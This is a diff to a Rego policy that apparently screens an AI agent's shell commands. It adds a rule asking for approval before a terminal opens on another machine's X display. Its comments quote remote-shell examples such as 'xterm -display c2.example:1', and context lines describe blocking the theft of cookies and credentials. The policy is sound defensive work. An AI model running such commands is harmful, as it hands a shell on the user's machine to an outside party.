@@ -107,6 +107,41 @@ _opaque_deny contains msg if {
 	msg := sprintf("Blocked: the code run by `%s` sends the page's cookies, web storage or credentials to another machine (the session would be stolen). Read what you need from the page and return it instead.", [shell.name(seg)])
 }
 
+# a terminal shown on another machine's X server (`xterm -display c2.example:1`,
+# `DISPLAY=10.0.0.5:0 urxvt`): whoever sits at that display types into a shell here
+ask contains msg if {
+	some ran in _x_terminals & data.claude_rego.lib.shell.names
+	some seg in shell.running({ran})
+	some d in _displays(seg)
+	_remote_display(d)
+	msg := sprintf("`%s` opens a terminal on the X display `%s` of another machine: whoever is at that display gets a shell here. Approve only if that display is yours.", [concat(" ", seg.argv), d])
+}
+
+_x_terminals := {"xterm", "uxterm", "urxvt", "rxvt", "rxvt-unicode", "aterm", "eterm", "mlterm", "st", "konsole", "alacritty", "kitty", "xfce4-terminal", "lxterminal", "mate-terminal", "tilix", "gnome-terminal", "terminator", "x-terminal-emulator", "xvt", "wezterm"}
+
+_displays(seg) := {d |
+	some i, a in seg.args
+	a in {"-display", "--display", "-disp"}
+	d := seg.args[i + 1]
+	is_string(d)
+} | {substring(a, 10, -1) |
+	some a in seg.args
+	startswith(a, "--display=")
+} | {d |
+	d := seg.assignments.DISPLAY
+	is_string(d)
+}
+
+_remote_display(d) if {
+	contains(d, ":")
+	parts := split(d, ":")
+	host := lower(parts[0])
+	host != ""
+	not host in {"localhost", "unix", "127.0.0.1"}
+	not startswith(host, "127.")
+	not startswith(d, "/")
+}
+
 # ---------------------------------------------------------------- uploads
 
 _stdin_markers := {"@-", "-", ".", "@/dev/stdin", "/dev/stdin"}
